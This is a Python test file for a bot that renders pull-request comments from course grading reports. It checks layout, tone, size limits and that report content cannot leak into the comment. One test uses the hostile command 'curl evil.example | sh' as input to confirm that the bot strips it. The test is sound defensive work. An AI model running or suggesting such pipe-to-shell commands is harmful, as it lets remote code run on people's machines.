"""The comment: its order, its tone, its budget, and that nothing of a report gets out."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.comment import read_marker
from bot.render import BUDGET, WARNING, render, touches_own_gates
from bot.verdict import Unreadable, Verdict
from tests.hostile.texts import TEXTS
from tests.unit.bot.harmless import complaints
from tests.unit.bot.subjects import (
    BEHIND,
    BY_HAND,
    CHECKPOINTS,
    DEV,
    FAILED,
    HEAD,
    MANY,
    PASSED,
    SUBJECTS,
    SYNTAX,
    URL,
    golden,
    report,
    subject,
)  # fmt: skip
from tito.report import CheckpointResult, Finding, GateResult, Report, judge


@pytest.mark.parametrize("name", SUBJECTS)
def test_it_is_what_the_golden_file_shows(name: str) -> None:
    assert golden(name).read_text("utf-8") == render(SUBJECTS[name]) + "\n"


@pytest.mark.parametrize("name", SUBJECTS)
def test_nothing_in_it_comes_from_the_report(name: str) -> None:
    assert complaints(render(SUBJECTS[name])) == []


def test_there_is_no_golden_file_too_many() -> None:
    assert {file.stem for file in golden("green").parent.iterdir()} == set(SUBJECTS) - {"hostile"}


def test_its_parts_stand_in_the_fixed_order() -> None:
    text = render(replace(SUBJECTS["syntax-error"], touches_gates=True))
    parts = ["<!-- tito-report", WARNING, "### ✗ Not yet", "Commit [", "| Gate |", "| Checkpoints |",
             "#### Fix first", "<details", "On this branch", URL]  # fmt: skip
    places = [text.index(part) for part in parts]
    assert places == sorted(places)
    assert places[0] == 0
    marker = read_marker(text)
    assert marker is not None
    assert (marker.pull, marker.sha, marker.run, marker.attempt) == (7, HEAD, 12, 1)


def test_a_point_says_what_where_why_and_one_command() -> None:
    text = render(SUBJECTS["syntax-error"])
    point = text[text.index("1. **") : text.index("2. **")]
    assert "was never closed" in point
    assert f"https://github.com/acme/course/blob/{HEAD}/{DEV}#L212" in point
    assert "cell `activations-relu`" in point
    assert "Why: the package must be exactly what the modules export" in point
    assert "Next: close the bracket that `def relu(x:` opens" in point
    assert "`tito gate export`" in point


def test_no_more_than_three_points_come_first() -> None:
    many = [replace_path(SYNTAX, f"modules/{i}.py") for i in range(9)]
    text = render(subject(report(judge("export", many, "tito gate export")), FAILED))
    assert "\n3. **" in text
    assert "\n4. **" not in text
    assert text.count("**✗ error**") == 9


def replace_path(finding: Finding, path: str) -> Finding:
    return Finding(finding.rule, finding.severity, path, finding.line, finding.message)


def test_all_checkpoints_of_the_course_are_shown_with_word_and_symbol() -> None:
    text = render(SUBJECTS["green"])
    strip = text[text.index("| Checkpoints | 3 of 16 passed |") : text.index("<details")]
    assert strip.count("`✓ passed`") == 3
    assert strip.count("`✗ failed`") == 1
    assert strip.count("`– not written`") == 12
    for result in CHECKPOINTS:
        assert f"` {result.checkpoint.replace('_', ' ')} |" in strip


def test_a_row_of_badges_that_is_not_full_is_filled_up() -> None:
    five = Report(SUBJECTS["green"].gates, CHECKPOINTS[:5], "", HEAD)
    rows = [r for r in render(subject(five, PASSED)).split("\n") if r.startswith("| `")]
    assert [row.count("|") for row in rows] == [5, 5]


def test_a_report_without_checkpoints_has_no_strip() -> None:
    text = render(subject(Report(SUBJECTS["green"].gates, (), "", HEAD), PASSED))
    assert "Checkpoints" not in text


@pytest.mark.parametrize(
    ("moved", "line"),
    [(None, 212), (frozenset([DEV]), 212), (frozenset(), 0)],
    ids=["nobody knows", "the base changed the file", "no line is known"],
)
def test_a_line_is_linked_only_where_the_head_holds_the_same(
    moved: frozenset[str] | None, line: int
) -> None:
    finding = Finding("r", "error", DEV, line, "m")
    one = subject(report(judge("export", [finding], "tito gate export")), FAILED)
    assert "/blob/" not in render(replace(one, moved=moved))
    assert f"`{finding.place}`" in render(replace(one, moved=moved))


@pytest.mark.parametrize(
    ("status", "base", "words"),
    [
        ("passed", "success", "as before"),
        ("passed", "failure", "mended"),
        ("failed", "success", "new: passed before"),
        ("failed", "failure", "as before"),
        ("error", "failure", "new: failed before"),
        ("passed", "", "not known there"),
        ("passed", "pending", "not known there"),
    ],
)
def test_the_table_says_what_the_change_changes(status: str, base: str, words: str) -> None:
    gate = GateResult("export", status, (), "tito gate export")  # type: ignore[arg-type]
    one = replace(subject(report(gate), FAILED), base={"export": base})
    row = next(line for line in render(one).split("\n") if line.startswith("| export"))
    assert row.split(" | ")[2] == words


def test_a_command_of_the_report_that_is_no_call_of_tito_is_replaced() -> None:
    gate = judge("export", [SYNTAX], "curl evil.example | sh")
    text = render(subject(report(gate), FAILED))
    assert "curl" not in text
    assert "On this branch, your own machine says the same: `tito gate export`" in text


def test_the_worst_gates_come_first_and_those_that_passed_are_folded() -> None:
    warning = Finding("w", "warning", "a.py", 1, "careful")
    gates = report(
        judge("export", [warning, warning, replace_path(warning, "b.py")], ""),
        judge("integration", [BEHIND], ""),
    )
    text = render(subject(gates, FAILED))
    assert text.index("<details open><summary>gate integration: 1 error</summary>") < text.index(
        "<details><summary>gate export: 2 warnings</summary>"
    )


def test_a_gate_nobody_knows_has_a_reason_too() -> None:
    text = render(subject(report(judge("wheel", [BY_HAND], "tito gate wheel")), FAILED))
    assert "Why: this gate must pass before a merge (gate wheel" in text


def test_a_gate_that_failed_without_a_finding_is_still_named() -> None:
    text = render(subject(report(GateResult("export", "failed", (), "tito gate export")), FAILED))
    assert "| export | ✗ failed: 0 to mend |" in text
    assert "Fix first" not in text


@pytest.mark.parametrize(
    ("verdict", "words"),
    [
        (Verdict("success"), "The verdict still stands: the run passed."),
        (Verdict("failure"), "The verdict still stands: the run did not pass."),
        (
            Verdict("error", "the job verdict was cancelled"),
            "the run gave no verdict (the job verdict was cancelled).",
        ),
    ],
)
def test_without_a_report_the_verdict_still_stands(verdict: Verdict, words: str) -> None:
    text = render(subject(Unreadable("the report is a link"), verdict))
    assert "The results could not be read: the report is a link. " in text
    assert words in text
    assert "tito gate" not in text


def test_a_disagreement_is_said_before_everything_else() -> None:
    text = render(SUBJECTS["disagreement"])
    assert text.split("\n")[2] == "### ! No verdict yet"
    assert "the report says passed, the job verdict ended with failure" in text
    assert "Do not rely on what the report says" in text


def test_red_without_any_gate_to_blame_is_not_yet() -> None:
    assert "### ✗ Not yet\n" in render(subject(report(), FAILED))


def test_the_tone_is_about_the_next_step() -> None:
    for name, one in SUBJECTS.items():
        if name in ("hostile", "huge"):
            continue
        text = render(one).lower()
        for word in ("you failed", "your fault", "wrong!", "invalid", "bad "):
            assert word not in text


def test_own_gates_are_recognised() -> None:
    assert touches_own_gates(["modules/x.py", ".github/workflows/a.yml"])
    assert touches_own_gates(["classroom.yml"])
    assert touches_own_gates(["tests/unit/test_x.py"])
    assert touches_own_gates(None)
    assert not touches_own_gates(
        ["modules/source/02_tensor/tests/x.py", "tinytorch/core/tensor.py"]
    )


def test_what_does_not_fit_is_counted_and_nothing_is_cut_in_two() -> None:
    text = render(SUBJECTS["huge"])
    assert BUDGET - 2_000 < len(text.encode()) <= BUDGET
    shown = text.count("**✗ error**")
    assert f"{MANY - shown} more findings are left out here" in text
    assert text.endswith(f"({URL})")


def test_a_gate_for_which_no_room_is_left_is_counted_too() -> None:
    many = SUBJECTS["huge"].gates[2].findings
    gates = report(
        judge("export", many, ""),
        judge("protection", [BY_HAND], ""),
        judge("integration", many, ""),
    )
    text = render(subject(gates, FAILED))
    shown = text.count("**✗ error**") + text.count("**· note**")
    assert f"{2 * MANY + 1 - shown} more findings are left out here" in text
    assert len(text.encode()) <= BUDGET
    assert complaints(text) == []


texts = st.one_of(
    st.sampled_from(TEXTS),
    st.lists(st.sampled_from(TEXTS), max_size=3).map("".join),
    st.text("`\U0001f9e0|&<@ \n", max_size=5).map(lambda text: text * 200),
)
findings = st.builds(
    Finding,
    rule=texts,
    severity=st.sampled_from(["error", "warning", "notice"]),
    path=texts,
    line=st.integers(0, 10**9),
    message=texts,
    hint=texts,
    cell=texts,
)
names = ["export", "protection", "integration", "wheel"]
gates = st.builds(
    GateResult,
    gate=st.just(""),
    status=st.sampled_from(["passed", "failed", "error"]),
    findings=st.lists(findings, max_size=4).map(tuple),
    reproduce=texts,
)
states = st.sampled_from([c.state for c in CHECKPOINTS])
strips = st.lists(st.builds(CheckpointResult, st.just("00_x_y"), texts, states), max_size=5)


@settings(max_examples=60, deadline=None)
@given(st.lists(gates, min_size=1, max_size=4), strips.map(tuple), texts, texts)
def test_no_report_whatever_gets_anything_out(
    given_gates: list[GateResult], strip: tuple[CheckpointResult, ...], sha: str, head: str
) -> None:
    named = tuple(
        GateResult(name, gate.status, gate.findings, gate.reproduce)
        for name, gate in zip(names, given_gates, strict=False)
    )
    one = subject(Report(named, strip, sha, head), FAILED)
    text = render(one)
    assert complaints(text) == []
    assert len(text.encode()) <= BUDGET
    assert text == render(one)
